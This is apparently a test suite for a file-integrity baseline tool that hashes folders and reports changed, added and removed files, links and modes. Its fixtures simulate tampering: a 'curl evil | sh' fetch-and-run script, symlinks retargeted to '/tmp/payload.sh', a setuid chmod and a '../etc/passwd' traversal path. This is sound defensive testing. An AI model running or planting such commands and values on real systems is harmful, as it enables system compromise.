import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { checkIntegrity, readIntegrityBaseline, snapshotIntegrity } from '../../../src-main/services/supply/integrity';

const sha256 = (text: string | Buffer) => createHash('sha256').update(text).digest('hex');
const made: string[] = [];
function tempDir(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'firebreak-integrity-'));
  made.push(dir);
  return dir;
}
afterEach(() => {
  for (const dir of made.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
});

function tree(files: Record<string, string>): string {
  const root = tempDir();
  for (const [name, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
    fs.writeFileSync(path.join(root, name), content);
  }
  return root;
}

describe('integrity baselines', () => {
  it('records the SHA-256 and size of every file, relative and sorted', async () => {
    const root = tree({ 'bin/app': 'binary!', 'lib/a.js': 'module.exports = 1;\n', 'README.md': '# app\n', 'lib/empty': '' });
    const progress: number[] = [];
    const { baseline, skipped } = await snapshotIntegrity(root, (value) => progress.push(value.files));
    expect(baseline).toMatchObject({ format: 'firebreak-integrity/1', root: fs.realpathSync(root) });
    const mode = (file: string) => fs.statSync(path.join(root, file)).mode & 0o7777;
    expect(baseline.files).toEqual([
      { path: 'README.md', size: 6, sha256: sha256('# app\n'), mode: mode('README.md') },
      { path: 'bin/app', size: 7, sha256: sha256('binary!'), mode: mode('bin/app') },
      { path: 'lib/a.js', size: 20, sha256: sha256('module.exports = 1;\n'), mode: mode('lib/a.js') },
      { path: 'lib/empty', size: 0, sha256: sha256(''), mode: mode('lib/empty') },
    ]);
    expect(baseline.links).toEqual([]);
    expect(skipped).toEqual([]);
    expect(progress.at(-1)).toBe(4);
  });

  it('finds a changed byte, an added file and a removed file, and nothing else', async () => {
    const root = tree({ 'a.txt': 'hello world', 'b.txt': 'stays', 'c/d.txt': 'goes away' });
    const { baseline } = await snapshotIntegrity(root);
    fs.writeFileSync(path.join(root, 'a.txt'), 'hello World');
    fs.writeFileSync(path.join(root, 'c/new.sh'), 'curl evil | sh');
    fs.rmSync(path.join(root, 'c/d.txt'));
    const report = await checkIntegrity(root, baseline);
    expect(report).toMatchObject({
      changed: [{ path: 'a.txt', before: sha256('hello world'), after: sha256('hello World') }],
      added: [{ path: 'c/new.sh', sha256: sha256('curl evil | sh') }],
      removed: [{ path: 'c/d.txt', sha256: sha256('goes away') }],
      unchanged: 1,
      skipped: [],
    });
  });

  it('names what changed: a link retargeted, a link added, a file made setuid', async () => {
    const root = tree({ 'bin/tool.js': 'x', 'run.sh': 'echo hi' });
    fs.chmodSync(path.join(root, 'run.sh'), 0o644);
    fs.symlinkSync('../bin/tool.js', path.join(root, 'bin/tool'));
    const { baseline } = await snapshotIntegrity(root);
    fs.unlinkSync(path.join(root, 'bin/tool'));
    fs.symlinkSync('/tmp/payload.sh', path.join(root, 'bin/tool'));
    fs.symlinkSync('/tmp/payload.sh', path.join(root, 'bin/postinstall'));
    fs.chmodSync(path.join(root, 'run.sh'), 0o4755);
    const report = await checkIntegrity(root, baseline);
    expect(report.changed).toEqual([
      { path: 'bin/tool', before: '../bin/tool.js', after: '/tmp/payload.sh', what: 'link-target' },
      { path: 'run.sh', before: '0644', after: '4755', what: 'mode' },
    ]);
    expect(report.added).toEqual([{ path: 'bin/postinstall', sha256: '', linkTarget: '/tmp/payload.sh' }]);
    expect(report.removed).toEqual([]);
    expect(report.unchanged).toBe(1);
  });

  it('still checks a baseline written before modes and links were recorded, comparing bytes only', async () => {
    const root = tree({ 'a.txt': 'same', 'b.txt': 'before' });
    fs.symlinkSync('a.txt', path.join(root, 'link'));
    const { baseline } = await snapshotIntegrity(root);
    const older = { ...baseline, files: baseline.files.map(({ mode: _mode, ...file }) => file) };
    delete older.links;
    const file = path.join(tempDir(), 'old.json');
    fs.writeFileSync(file, JSON.stringify(older));
    fs.chmodSync(path.join(root, 'a.txt'), 0o755);
    fs.writeFileSync(path.join(root, 'b.txt'), 'after');
    const report = await checkIntegrity(root, readIntegrityBaseline(file));
    expect(report.changed.map((entry) => entry.path)).toEqual(['b.txt']);
    expect(report.added).toEqual([]);
    expect(report.unchanged).toBe(1);
  });

  it('hashes a file larger than one read correctly, and skips a name that is not UTF-8 with the reason', async () => {
    const root = tree({});
    const big = Buffer.alloc(3 * 1024 * 1024 + 17);
    for (let index = 0; index < big.length; index += 1) big[index] = (index * 31) % 251;
    fs.writeFileSync(path.join(root, 'big.bin'), big);
    fs.writeFileSync(Buffer.concat([Buffer.from(`${root}/bad-`), Buffer.from([0xff, 0xfe]), Buffer.from('.txt')]), 'x');
    const { baseline, skipped } = await snapshotIntegrity(root);
    expect(baseline.files).toEqual([{ path: 'big.bin', size: big.length, sha256: sha256(big), mode: fs.statSync(path.join(root, 'big.bin')).mode & 0o7777 }]);
    expect(skipped).toEqual([{ path: 'bad-\u00ff\u00fe.txt', reason: 'its name is not valid UTF-8: not read' }]);
  });

  it('never follows symlinks: a loop and a link out of the folder are recorded with their targets, and the walk ends', async () => {
    const outside = tree({ 'secret.txt': 'outside' });
    const root = tree({ 'app/index.js': 'x' });
    fs.symlinkSync('..', path.join(root, 'app', 'loop'));
    fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(root, 'outside-link'));
    const { baseline, skipped } = await snapshotIntegrity(root);
    expect(baseline.files.map((file) => file.path)).toEqual(['app/index.js']);
    expect(baseline.links).toEqual([
      { path: 'app/loop', target: '..' },
      { path: 'outside-link', target: path.join(outside, 'secret.txt') },
    ]);
    expect(skipped).toEqual([]);
  });

  it('skips a FIFO with the reason instead of blocking on it, and a baseline file replaced by one counts as removed', async () => {
    // The suite runs as root, who reads a chmod 000 file anyway: a named pipe stands in for a file that cannot be read.
    const root = tree({ 'run/app.sock': 'was a file', 'keep.txt': 'k' });
    const { baseline } = await snapshotIntegrity(root);
    fs.rmSync(path.join(root, 'run/app.sock'));
    execFileSync('mkfifo', [path.join(root, 'run/app.sock')]);
    const report = await checkIntegrity(root, baseline);
    expect(report.skipped).toEqual([{ path: 'run/app.sock', reason: 'named pipe (FIFO): not read (reading it could block forever)' }]);
    expect(report.removed).toEqual([{ path: 'run/app.sock', sha256: sha256('was a file') }]);
    expect(report.unchanged).toBe(1);
  });

  it('refuses a folder that does not exist or is a file, and stops when cancelled', async () => {
    const root = tree({ 'a.txt': 'a' });
    await expect(snapshotIntegrity(path.join(root, 'missing'))).rejects.toThrow(`cannot read the folder ${path.join(root, 'missing')}: it does not exist`);
    await expect(snapshotIntegrity(path.join(root, 'a.txt'))).rejects.toThrow('is not a folder');
    const controller = new AbortController();
    controller.abort();
    await expect(snapshotIntegrity(root, undefined, controller.signal)).rejects.toMatchObject({ code: 'cancelled' });
  });

  it('hashes 20,000 files without holding their contents in memory', async () => {
    const root = tempDir();
    const chunk = Buffer.alloc(16 * 1024, 7);
    for (let folder = 0; folder < 100; folder += 1) {
      fs.mkdirSync(path.join(root, `d${folder}`));
      for (let file = 0; file < 200; file += 1) fs.writeFileSync(path.join(root, `d${folder}`, `f${file}`), chunk);
    }
    const before = process.memoryUsage().rss;
    let peak = before;
    const sample = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
    const { baseline } = await snapshotIntegrity(root, () => (peak = Math.max(peak, process.memoryUsage().rss)));
    clearInterval(sample);
    expect(baseline.files).toHaveLength(20_000);
    expect(new Set(baseline.files.map((file) => file.sha256))).toEqual(new Set([sha256(chunk)]));
    // 320 MB of contents went through; the process grew by the worker and the list, not by the bytes.
    expect(peak - before).toBeLessThan(150 * 1024 * 1024);
    console.log(`integrity: 20,000 files (320 MB) hashed, peak RSS growth ${Math.round((peak - before) / 1024 / 1024)} MB`);
  }, 120_000);
});

describe('readIntegrityBaseline', () => {
  const write = (content: string) => {
    const file = path.join(tempDir(), 'baseline.json');
    fs.writeFileSync(file, content);
    return file;
  };
  const good = { format: 'firebreak-integrity/1', root: '/srv/app', createdAt: '2026-12-01T10:00:00.000Z', files: [{ path: 'a.txt', size: 1, sha256: 'a'.repeat(64) }] };

  it('reads a baseline it wrote, and the --json envelope of a snapshot', async () => {
    const root = tree({ 'x/y.txt': 'y' });
    const { baseline } = await snapshotIntegrity(root);
    expect(readIntegrityBaseline(write(JSON.stringify(baseline)))).toEqual(baseline);
    expect(readIntegrityBaseline(write(JSON.stringify({ ok: true, value: { baseline, output: null, skipped: [] } })))).toEqual(baseline);
  });

  it('refuses anything else with the file and the place', () => {
    const missing = path.join(tempDir(), 'nope.json');
    expect(() => readIntegrityBaseline(missing)).toThrow(`the integrity baseline ${missing} does not exist`);
    const notJson = write('{"format":');
    expect(() => readIntegrityBaseline(notJson)).toThrow(`the integrity baseline ${notJson} is not valid JSON`);
    const other = write(JSON.stringify({ ...good, format: 'sha256sum' }));
    expect(() => readIntegrityBaseline(other)).toThrow(`the integrity baseline ${other} at format: must be 'firebreak-integrity/1'`);
    const badHash = write(JSON.stringify({ ...good, files: [{ path: 'a', size: 1, sha256: 'XYZ' }] }));
    expect(() => readIntegrityBaseline(badHash)).toThrow('at files[0].sha256: must be a SHA-256: 64 lowercase hex characters');
    const escape = write(JSON.stringify({ ...good, files: [{ path: '../etc/passwd', size: 1, sha256: 'a'.repeat(64) }] }));
    expect(() => readIntegrityBaseline(escape)).toThrow('at files[0].path: must be a relative path without empty, . or .. parts');
    const twice = write(JSON.stringify({ ...good, files: [...good.files, ...good.files] }));
    expect(() => readIntegrityBaseline(twice)).toThrow("at files[1].path: 'a.txt' is listed twice");
  });
});
